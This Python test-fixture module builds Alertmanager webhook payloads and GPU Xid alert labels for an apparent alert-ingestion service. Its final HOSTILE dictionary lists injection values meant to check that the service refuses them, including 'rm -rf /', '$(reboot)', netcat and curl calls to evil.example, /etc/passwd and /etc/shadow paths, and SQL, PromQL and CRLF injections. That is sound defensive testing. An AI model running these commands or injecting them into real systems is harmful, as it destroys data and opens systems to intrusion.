"""Alertmanager v4 payloads for tests, shaped exactly as Alertmanager 0.25 sends them (tech.md §1.1, §1.6)."""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

from app.domain.alertmanager import am_fingerprint
from app.engine import IngestResult
from tests.fakes import START

ZERO_TIME = "0001-01-01T00:00:00Z"


def alert(
    labels: dict[str, str],
    *,
    status: str = "firing",
    starts_at: datetime = START,
    ends_at: datetime | None = None,
    annotations: dict[str, str] | None = None,
) -> dict[str, Any]:
    return {
        "status": status,
        "labels": labels,
        "annotations": annotations
        or {"summary": f"{labels.get('alertname')} on {labels.get('Hostname', '-')}"},
        "startsAt": starts_at.isoformat().replace("+00:00", "Z"),
        "endsAt": ends_at.isoformat().replace("+00:00", "Z") if ends_at else ZERO_TIME,
        "generatorURL": "http://prometheus:9090/graph?g0.expr=x",
        "fingerprint": am_fingerprint(labels),
    }


def payload(*alerts: dict[str, Any], receiver: str = "nightshift") -> dict[str, Any]:
    status = "firing" if any(a["status"] == "firing" for a in alerts) else "resolved"
    common = dict(set.intersection(*(set(a["labels"].items()) for a in alerts))) if alerts else {}
    return {
        "receiver": receiver,
        "status": status,
        "alerts": list(alerts),
        "groupLabels": {"alertname": common.get("alertname", "")},
        "commonLabels": common,
        "commonAnnotations": {},
        "externalURL": "http://alertmanager:9093",
        "version": "4",
        "groupKey": '{}:{alertname="' + common.get("alertname", "") + '"}',
        "truncatedAlerts": 0,
    }


def body(*alerts: dict[str, Any]) -> bytes:
    return json.dumps(payload(*alerts)).encode()


def xid(node: str = "node1", code: str = "79", job: str = "1234", gpu: str = "3") -> dict[str, str]:
    return {
        "alertname": "GpuXidError",
        "Hostname": node,
        "gpu": gpu,
        "xid": code,
        "xid_class": "reboot",
        "slurm_job_id": job,
        "severity": "critical",
    }


def ingest_inbox(app: Any) -> IngestResult:
    """What the worker does next: ingest every notification the webhook has queued. What that did, together."""
    return app.extensions["nightshift"].engine.inbox.ingest_all()


# Label values an attacker (or a broken exporter) may send: each must be refused by every pattern or pass as data.
HOSTILE = {
    "semicolon": "node1; rm -rf /",
    "substitution": "$(reboot)",
    "backticks": "`id`",
    "pipe": "node1|nc evil.example 4444",
    "redirect": "node1>/etc/passwd",
    "and": "node1 && curl http://evil.example",
    "option": "--help",
    "glob": "node*",
    "quote": "node1' OR '1'='1",
    "traversal": "../../etc/passwd",
    "absolute": "/etc/shadow",
    "newline": "node1\nrm -rf /",
    "crlf": "node1\r\nX-Injected: 1",
    "nul": "node1\x00evil",
    "tab": "node1\tx",
    "huge": "n" * 4096,  # the parser's limit: accepted as data, refused by every pattern
    "unicode": "nöde-ünïcödé",
    "rtl_override": "node1\u202egnp.exe",
    "zero_width": "node\u200b1",
    "homoglyph": "nod\u04351",  # Cyrillic e
    "emoji": "node\U0001f525",
    "promql": '"} or vector(1) or {a="',
    "format": "%s%n%x{0}",
}
